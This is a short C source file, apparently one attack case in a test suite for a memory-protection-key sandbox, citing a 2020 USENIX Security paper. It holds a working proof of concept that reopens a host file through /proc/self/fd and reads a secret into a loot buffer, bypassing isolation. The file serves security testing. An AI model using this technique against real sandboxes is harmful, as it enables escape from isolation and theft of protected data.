/* Tries: to open a file of the host's once more, through /proc/self/fd
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020), on /proc; CWE-59
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    char path[32] = "/proc/self/fd/";
    size_t length = strlen(path);
    uint64_t number = at->secrets;
    if (number >= 10)
        path[length++] = (char)('0' + number / 10);
    path[length] = (char)('0' + number % 10);
    int file = (int)kernel3(SYS_open, ADDRESS(path), 0, 0);
    kernel3(SYS_read, (uint64_t)file, ADDRESS(at->loot), SECRET_SIZE);
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    return 0;
}
